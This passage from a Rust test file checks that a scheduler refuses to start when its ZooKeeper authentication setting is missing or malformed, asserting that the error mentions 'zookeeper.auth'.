    config.zookeeper.connect = "192.0.2.1:2181".into();
    config.scheduler.api_addr = "127.0.0.1:0".into();
    let refused =
        rondo_scheduler::start(config.clone(), tokio_util::sync::CancellationToken::new())
            .await
            .err()
            .expect("refused");
    assert!(refused.to_string().contains("zookeeper.auth"), "{refused}");
    config.zookeeper.auth = "no-colon".into();
    let refused = rondo_scheduler::start(config, tokio_util::sync::CancellationToken::new())
        .await
        .err()
        .expect("refused");
    assert!(refused.to_string().contains("zookeeper.auth"), "{refused}");
}
